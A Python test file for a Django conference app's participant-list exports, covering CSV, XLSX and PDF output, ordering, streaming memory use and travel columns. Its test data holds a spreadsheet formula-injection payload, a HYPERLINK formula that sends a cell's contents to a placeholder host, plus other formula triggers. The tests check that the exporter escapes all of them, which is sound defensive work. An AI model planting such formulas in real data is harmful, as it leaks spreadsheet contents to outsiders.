import csv
import io
import tracemalloc

import pytest
from openpyxl import load_workbook

from delegates.enums import RegistrationStatus, Role
from delegates.models import Registration
from secretariat.exports import (
    clean_cell,
    participants_csv_chunks,
    participants_for_list,
    participants_xlsx,
)
from tests.factories import (
    HotelFactory,
    MeetingFactory,
    RegistrationFactory,
    UserFactory,
    member,
)

HYPERLINK = '=HYPERLINK("http://x/?"&A1)'
CONFIRMED = RegistrationStatus.CONFIRMED


@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+31 20 555 0101", "'+31 20 555 0101"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'=1+1"),
    ("\r=1+1", "'=1+1"),
    ("Ana\x00 Lim\x1b", "Ana Lim"),
    ("Line one\nline two", "Line one\nline two"),
    ("Nguyễn Thị Hương", "Nguyễn Thị Hương"),
    (None, ""),
    (7, 7),
])
def test_clean_cell_escapes_formulas_and_strips_control_characters(value, expected):
    assert clean_cell(value) == expected


@pytest.fixture
def meeting(db):
    return MeetingFactory(host_member=member("VN"), list_host_first=True)


def test_list_orders_host_first_then_members_alphabetically_head_first(meeting):
    RegistrationFactory(meeting=meeting, member=member("DE"), family_name="Adler",
                        status=CONFIRMED)
    RegistrationFactory(meeting=meeting, member=member("DE"), family_name="Zimmer",
                        role=Role.HEAD_OF_DELEGATION, status=CONFIRMED)
    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Berger",
                        status=CONFIRMED)
    RegistrationFactory(meeting=meeting, member=member("VN"), family_name="Trần",
                        status=CONFIRMED)
    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Pending")

    names = [r.family_name for r in participants_for_list(meeting)]

    assert names == ["Trần", "Berger", "Zimmer", "Adler"]


def test_list_puts_host_in_alphabetical_place_when_the_meeting_says_so(meeting):
    meeting.list_host_first = False
    meeting.save()
    RegistrationFactory(meeting=meeting, member=member("VN"), family_name="Trần",
                        status=CONFIRMED)
    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Berger",
                        status=CONFIRMED)

    assert [r.member.code for r in participants_for_list(meeting)] == ["AT", "VN"]


def test_csv_escapes_a_formula_in_a_name(meeting):
    RegistrationFactory(meeting=meeting, given_name=HYPERLINK, family_name="Doe",
                        status=CONFIRMED, phone="+49 30 555 0000")

    text = "".join(participants_csv_chunks(participants_for_list(meeting)))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))

    assert rows[0][:3] == ["Member", "Honorific", "Name as written"]
    assert rows[1][2] == "'" + HYPERLINK + " Doe"
    assert rows[1][3] == "'" + HYPERLINK
    assert rows[1][10] == "'+49 30 555 0000"


def test_xlsx_keeps_a_formula_in_a_name_as_text(meeting):
    RegistrationFactory(meeting=meeting, given_name=HYPERLINK, family_name="Doe\x07",
                        status=CONFIRMED)

    data = participants_xlsx(participants_for_list(meeting), title="Participants")
    sheet = load_workbook(io.BytesIO(data)).active
    given = sheet.cell(row=2, column=4)

    assert given.value == HYPERLINK  # a typed string cell: no formula, no apostrophe
    assert given.data_type == "s"
    assert sheet.cell(row=1, column=1).value == "Member"
    assert sheet.cell(row=1, column=1).font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(row=2, column=5).value == "Doe"


NEXT_COLUMNS = ["Arrival date", "Departure date", "Dietary needs", "Accessibility needs",
                "Visa letter requested", "Participation", "Side events"]


def test_csv_and_xlsx_carry_travel_needs_and_visa_letter(meeting):
    import datetime as dt

    RegistrationFactory(meeting=meeting, status=CONFIRMED, arrival_date=dt.date(2026, 5, 11),
                        departure_date=dt.date(2026, 5, 14), dietary_needs="Halal",
                        accessibility_needs="Step-free access", needs_visa_letter=True)
    RegistrationFactory(meeting=meeting, status=CONFIRMED)

    text = "".join(participants_csv_chunks(participants_for_list(meeting)))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    sheet = load_workbook(io.BytesIO(participants_xlsx(participants_for_list(meeting),
                                                       title="Participants"))).active
    cells = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]

    for table in (rows, cells):
        assert table[0][-7:] == NEXT_COLUMNS
        assert sorted(row[-7:] for row in table[1:]) == [
            ["", "", "", "", "No", "In person", ""],
            ["2026-05-11", "2026-05-14", "Halal", "Step-free access", "Yes", "In person", ""]]


def test_export_views_answer_in_three_formats(client, meeting):
    from django.contrib.auth.models import Group

    user = UserFactory(username="viewer", is_staff=True)
    user.groups.add(Group.objects.get(name="Secretariat viewer"))
    client.force_login(user)
    RegistrationFactory(meeting=meeting, status=CONFIRMED, given_name="สมชาย",
                        family_name="ใจดี")

    csv_response = client.get(f"/staff/{meeting.slug}/participants.csv")
    xlsx_response = client.get(f"/staff/{meeting.slug}/participants.xlsx")
    pdf_response = client.get(f"/staff/{meeting.slug}/participants.pdf")

    assert csv_response.streaming
    assert "สมชาย ใจดี" in b"".join(csv_response.streaming_content).decode("utf-8-sig")
    assert xlsx_response.content[:2] == b"PK"
    assert pdf_response.content[:5] == b"%PDF-"


def _add_people(meeting, numbers):
    Registration.objects.bulk_create(
        Registration(meeting=meeting, member=member("DE"), given_name="Anna",
                     family_name=f"Schmidt{n}", email=f"p{n}@example.org",
                     status=CONFIRMED, badge_code=f"code{n}")
        for n in numbers
    )


def _csv_rows_and_peak_memory(meeting):
    tracemalloc.start()
    rows = 0
    for chunk in participants_csv_chunks(participants_for_list(meeting)):
        rows += chunk.count("\n")
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return rows, peak


def test_the_csv_streams_more_rows_in_the_same_memory(meeting):
    """The list is read in chunks of 2,000 (two in memory at a time): 10,000 people need
    no more memory than 4,000, so a meeting of any size downloads without filling the
    server's memory."""
    meeting.capacity = 20_000
    meeting.save()
    _add_people(meeting, range(4_000))
    rows_small, peak_small = _csv_rows_and_peak_memory(meeting)
    _add_people(meeting, range(4_000, 10_000))
    rows_large, peak_large = _csv_rows_and_peak_memory(meeting)

    assert (rows_small, rows_large) == (4_001, 10_001)
    assert peak_large < 1.25 * peak_small
    assert peak_large < 20 * 1024 * 1024


TRAVEL_COLUMNS = ["Arrival time", "Arrival flight", "Arrival airport",
                  "Transfer from the airport", "Departure time", "Departure flight",
                  "Departure airport", "Transfer to the airport", "Hotel", "Hotel check-in",
                  "Hotel check-out", "Diet"]


def _travel_cells(meeting):
    text = "".join(participants_csv_chunks(participants_for_list(meeting)))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    start = rows[0].index("Arrival time")
    assert rows[0][start:start + 12] == TRAVEL_COLUMNS
    assert {len(row) for row in rows} == {len(rows[0])}
    return sorted(row[start:start + 12] for row in rows[1:])


def test_the_travel_columns_are_there_and_empty_when_nobody_told_travel(meeting):
    RegistrationFactory(meeting=meeting, status=CONFIRMED)

    assert _travel_cells(meeting) == [["", "", "", "No", "", "", "", "No", "", "", "", ""]]


def test_travel_told_by_one_is_listed_and_its_typed_cells_checked(meeting):
    import datetime as dt

    from logistics.models import TravelDetails

    told = RegistrationFactory(meeting=meeting, status=CONFIRMED)
    RegistrationFactory(meeting=meeting, status=CONFIRMED)
    TravelDetails.objects.create(
        registration=told, arrival_time=dt.time(9, 5), arrival_flight="=1+1",
        arrival_airport="HAN", arrival_transfer=True, hotel=HotelFactory(meeting=meeting,
                                                                          name="+Hotel"),
        check_in=dt.date(2026, 5, 11), diet="vegetarian")

    assert _travel_cells(meeting) == [
        ["", "", "", "No", "", "", "", "No", "", "", "", ""],
        ["09:05", "'=1+1", "HAN", "Yes", "", "", "", "No", "'+Hotel", "2026-05-11", "",
         "Vegetarian"],
    ]
